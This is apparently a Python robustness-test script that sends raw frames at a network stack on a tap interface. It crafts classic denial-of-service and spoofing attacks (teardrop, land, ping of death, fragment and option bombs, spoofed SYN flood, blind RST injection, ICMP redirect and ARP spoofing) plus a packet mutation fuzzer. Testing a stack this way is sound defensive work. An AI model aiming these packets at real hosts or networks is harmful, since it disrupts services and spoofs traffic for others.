#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Frames of known attacks, and mutated ones, to a stack at 192.0.2.1.

  hostile.py ATTACK [SECONDS]     one of ATTACKS below

Raw packets from AF_PACKET on tap0 (so the kernel neither makes nor checks them),
each attack bounded in count; a name is printed when it was sent.  Made by hand
from the RFCs and the advisories that each function names.
"""
import os
import random
import socket
import struct
import sys
import time

ME, IT = "192.0.2.2", "192.0.2.1"
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind(("tap0", 0))
MINE = raw.getsockname()[4]
ITS = bytes([2, 0, 0, 0x4E, 0x54, 1])
dice = random.Random(6)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ip(proto, data, src=ME, dst=IT, off=0, more=0, ident=1, options=b"", length=None, summed=True, ttl=64):
    h = struct.pack("!BBHHHBBH4s4s", 0x45 + len(options) // 4, 0, length or 20 + len(options) + len(data), ident,
                    more << 13 | off // 8, ttl, proto, 0, socket.inet_aton(src), socket.inet_aton(dst)) + options
    c = csum(h) if summed else 0x1234
    return h[:10] + struct.pack("!H", c) + h[12:] + data


def eth(p, kind=0x0800, dst=ITS):
    return dst + MINE + struct.pack("!H", kind) + p


def send(p, **how):
    raw.send(eth(p, **how)[:1514])


def tcp(sport, dport, flags, seq=1, ack=0, options=b"", data=b"", src=ME, summed=True, window=8192, offset=None):
    words = offset if offset is not None else 5 + len(options) // 4
    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, words << 4, flags, window, 0, 0) + options + data
    pseudo = socket.inet_aton(src) + socket.inet_aton(IT) + struct.pack("!HH", 6, len(h))
    c = csum(pseudo + h) if summed else 0xBEEF
    return h[:16] + struct.pack("!H", c) + h[18:]


def udp(sport, dport, data, summed=True):
    h = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
    return h[:6] + struct.pack("!H", 0 if summed else 0xDEAD) + h[8:]


def icmp(kind, code, rest):
    b = struct.pack("!BBH", kind, code, 0) + rest
    return b[:2] + struct.pack("!H", csum(b)) + b[4:]


FIN, SYN, RST, PSH, ACK, URG = 1, 2, 4, 8, 16, 32


def teardrop():  # CVE-1999-0015: the second piece lies inside of the first
    for i in range(300):
        send(ip(17, udp(1, 7, b"A" * 28), more=1, ident=i))
        send(ip(17, b"B" * 4, off=24, ident=i))


def newtear():  # CVE-1999-0104: modified teardrop, with a length that is wrong, too
    for i in range(300):
        send(ip(17, struct.pack("!HHHH", 1, 7, 48, 0) + b"A" * 20, more=1, ident=i))
        send(ip(17, b"B" * 4, off=24, ident=i))
        send(ip(17, b"C" * 40, off=8, ident=i))


def land():  # CVE-1999-0016: from the machine itself
    for port in (7, 9, 80, 139) * 75:
        send(ip(6, tcp(port, port, SYN, src=IT), src=IT))
        send(ip(6, tcp(port, port, SYN, src="127.0.0.1"), src="127.0.0.1"))


def ping_of_death():  # CVE-1999-0128: more than 65535 bytes in pieces
    for i in range(20):
        first = icmp(8, 0, b"\0\1\0\1" + b"D" * 1472)
        send(ip(1, first, more=1, ident=i))
        for off in range(1480, 65000, 1480):
            send(ip(1, b"D" * 1480, off=off, more=1, ident=i))
        send(ip(1, b"D" * 1400, off=65528, ident=i))


def fragments():  # overlapping, tiny (RFC 1858), empty, and never ended
    for i in range(2000):
        send(ip(6, tcp(1, 80, SYN)[:8], more=1, ident=i))
        send(ip(6, tcp(1, 80, SYN)[8:], off=8, ident=i))
        send(ip(17, b"", off=8 * dice.randrange(100), more=1, ident=i))
        send(ip(17, b"X" * 1400, off=8 * dice.randrange(4000), more=1, ident=dice.randrange(65536)))
        send(ip(17, b"Y" * dice.randrange(1, 200), off=8 * dice.randrange(8), more=1, ident=i % 7))


def bad_sums():
    for i in range(500):
        send(ip(6, tcp(1000 + i, 80, SYN), summed=False))
        send(ip(6, tcp(1000 + i, 80, SYN, summed=False)))
        send(ip(17, udp(1000 + i, 7, b"x", summed=False)))
        send(ip(1, b"\x08\0\x12\x34\0\1\0\1" + b"e" * 40))


def option_bombs():  # lengths of 0, 1, beyond the end; IP's and TCP's
    for i in range(1000):
        junk = bytes(dice.choice((0, 1, 2, 3, 4, 5, 8, 68, 7, 131, 137, 255)) if dice.random() < 0.6
                     else dice.randrange(256) for _ in range(40))
        send(ip(1, icmp(8, 0, b"\0\1\0\1" + b"o" * 32), options=junk))
        send(ip(6, tcp(2000 + i, 80, SYN, options=junk)))
        send(ip(6, tcp(2000 + i, 80, SYN, options=b"\2\4\0\0" + b"\3\3\xff" + b"\5\2" + b"\1" * 31)))
        send(ip(6, tcp(2000 + i, 80, dice.randrange(256), offset=dice.randrange(16))))


def syn_flood():  # 10,000 from everywhere; the one that answers is asked meanwhile
    for i in range(10000):
        src = "198.51.100.%d" % (i % 254 + 1)
        send(ip(6, tcp(1024 + i % 50000, 80, SYN, seq=dice.getrandbits(32), src=src), src=src))
        if i % 200 == 199:
            time.sleep(0.005)


def blind():  # RFC 5961: RST, SYN and data with guessed numbers to a connection
    c = socket.create_connection((IT, 7), 10)
    c.settimeout(10)
    port = c.getsockname()[1]
    for i in range(3000):
        send(ip(6, tcp(port, 7, dice.choice((RST, SYN, RST | ACK, SYN | ACK, ACK | PSH, FIN | ACK)),
                       seq=dice.getrandbits(32), ack=dice.getrandbits(32), data=b"evil" if i % 3 == 0 else b"")))
    # Quoted by an ICMP error that nobody asked for (RFC 5927): not believed in this state
    for code in range(13):
        quote = ip(6, tcp(7, port, ACK, seq=dice.getrandbits(32)), src=IT, dst=ME)[:28]
        send(ip(1, icmp(3, code, b"\0\0\0\0" + quote)))
    c.sendall(b"still here\n")
    got = b""
    while len(got) < 11:
        more = c.recv(100)
        if not more:
            break
        got += more
    assert got == b"still here\n", got
    c.close()


def redirects():  # RFC 1122 3.2.2.2: believed from the gateway in use alone
    for i in range(2000):
        dst = "203.0.113.%d" % (i % 250 + 1)
        quote = ip(17, udp(7, 9, b""), src=IT, dst=dst)
        send(ip(1, icmp(5, i % 4, socket.inet_aton("192.0.2.%d" % (i % 254 + 1)) + quote), src="192.0.2.%d" % (i % 250 + 3)))
        who = bytes([2, 0, 0, 0, i >> 8, i & 255])  # and ARP that nobody asked for
        send(struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1 + i % 2) + who + socket.inet_aton("192.0.2.%d" % (i % 250 + 3)) +
             ITS + socket.inet_aton(IT), kind=0x0806)


def seeds():
    yield eth(ip(6, tcp(5000, 80, SYN, options=b"\2\4\5\xb4\1\3\3\7\4\2\x08\x0a" + b"\0" * 8)))
    yield eth(ip(6, tcp(5000, 7, ACK | PSH, ack=5, data=b"hello" * 20)))
    yield eth(ip(17, udp(5000, 7, b"hello" * 30)))
    yield eth(ip(1, icmp(8, 0, b"\0\1\0\1" + b"p" * 56)))
    yield eth(ip(1, icmp(3, 4, b"\0\0\5\0" + ip(6, tcp(80, 5000, ACK), src=IT, dst=ME)[:28])))
    yield eth(ip(17, udp(1, 7, b"A" * 800), more=1, ident=9))
    yield eth(ip(17, b"B" * 800, off=808, ident=9))
    yield eth(ip(2, struct.pack("!BBH4s", 0x11, 10, 0, b"\0" * 4), dst="224.0.0.1", options=b"\x94\4\0\0"),
              dst=bytes([1, 0, 0x5E, 0, 0, 1]))
    yield eth(struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1) + MINE + socket.inet_aton(ME) + b"\0" * 6 + socket.inet_aton(IT),
              kind=0x0806, dst=b"\xff" * 6)


def mutated(seconds):  # 500 a second
    good = list(seeds())
    until = time.monotonic() + seconds
    n = 0
    began = time.monotonic()
    while time.monotonic() < until:
        f = bytearray(dice.choice(good))
        for _ in range(dice.randrange(1, 8)):
            at = dice.randrange(14, len(f)) if dice.random() < 0.97 else dice.randrange(12, 14)
            f[at] = dice.choice((0, 1, 0x7F, 0x80, 0xFF, f[at] ^ 1 << dice.randrange(8), dice.randrange(256)))
        if dice.random() < 0.2:
            del f[dice.randrange(14, len(f)):]
        if dice.random() < 0.7 and len(f) > 34 and f[12:14] == b"\x08\0":  # past the first check
            h = 14 + (f[14] & 15) * 4
            f[24:26] = b"\0\0"
            f[24:26] = struct.pack("!H", csum(bytes(f[14:h])))
        raw.send(bytes(f))
        n += 1
        late = began + n / 500 - time.monotonic()
        if late > 0:
            time.sleep(late)
    return n


ATTACKS = [teardrop, newtear, land, ping_of_death, fragments, bad_sums, option_bombs, syn_flood, blind, redirects]

if __name__ == "__main__":
    if sys.argv[1] == "mutated":
        print("mutated", mutated(float(sys.argv[2])))
    else:
        {f.__name__: f for f in ATTACKS}[sys.argv[1]]()
        print(sys.argv[1])
    sys.stdout.flush()
    os._exit(0)
